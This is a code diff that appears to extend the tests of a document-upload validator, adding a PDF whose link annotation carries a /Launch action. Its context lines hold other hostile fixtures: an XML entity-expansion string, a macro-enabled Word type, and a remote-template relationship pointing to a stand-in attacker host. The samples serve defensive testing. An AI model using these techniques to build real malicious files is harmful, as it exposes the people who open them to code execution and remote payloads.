@@ -199,6 +199,15 @@ def opened_by(action):
     return change
 
 
+def linked(writer):
+    """A link on the page that starts a program, stored apart from it."""
+    action = DictionaryObject({NameObject("/S"): NameObject("/Launch")})
+    note = {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): writer._add_object(action)}
+    writer.pages[0][NameObject("/Annots")] = writer._add_object(
+        ArrayObject([writer._add_object(DictionaryObject(note))])
+    )
+
+
 ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:t>&b;</w:t>'
 MACRO_TYPE = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
 ELSEWHERE = '<Relationship Type="x/attachedTemplate" Target="http://ke-xau.vn/a.dotm" TargetMode="External"/>'
@@ -229,6 +238,7 @@ HOSTILE = {
     ),
     "a PDF that runs script": (pdf("a", change=opened_by("/JavaScript")), "Tệp PDF có chương trình"),
     "a PDF that starts a program": (pdf("a", change=opened_by("/Launch")), "Tệp PDF có chương trình"),
+    "a PDF with a link to a program": (pdf("a", change=linked), "Tệp PDF có chương trình"),
     "a PDF of too many pages": (
         pdf("a", pages=pdf_file.MOST_PAGES + 1),
         "Tệp PDF không có trang nào, hoặc có hơn 300",
